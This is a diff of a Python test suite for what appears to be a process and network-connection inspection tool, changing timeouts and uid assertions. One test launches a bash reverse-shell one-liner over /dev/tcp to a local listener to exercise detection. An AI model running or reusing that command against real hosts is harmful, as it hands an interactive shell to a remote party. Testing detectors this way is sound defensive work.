@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import os
 import socket
 import struct
 import subprocess
@@ -167,6 +168,7 @@ def test_a_real_reverse_shell(running: Callable[..., subprocess.Popen[bytes]]) -
     with socket.socket() as server, closing(ProcHost()) as real:
         server.bind(("127.0.0.1", 0))
         server.listen()
+        server.settimeout(20)  # a namespace whose loopback is down lets nobody come
         port = server.getsockname()[1]
         line = f"exec 3<>/dev/tcp/127.0.0.1/{port}; echo x; exec bash -i <&3 >&3 2>&3"
         process = running(["/bin/bash", "-c", line])
@@ -191,7 +193,7 @@ def test_the_kernel_s_tables_of_connections(netlink: bool) -> None:
     assert (one.address, one.port) == (ours[0][0].encode(), ours[0][1])
     assert (one.peer, one.peer_port) == (ours[1][0].encode(), ours[1][1])
     assert one.inode
-    assert one.uid == 0
+    assert one.uid == os.getuid()
 
 
 def test_packed_connections_are_a_sequence() -> None:
@@ -250,7 +252,7 @@ def test_whence_a_process_came() -> None:
             child.communicate(b"\n")
         assert origin is not None
         assert origin.client.startswith(b"203.0.113.9 ")
-        assert (origin.real, origin.leave) == (0, b"SUDO_UID=7")
+        assert (origin.real, origin.leave) == (os.getuid(), b"SUDO_UID=7")
         assert origin.streams[0].startswith(b"pipe:[")
         assert real.origin(child.pid) is None
     assert parse.recorded(b"4294967295") is None
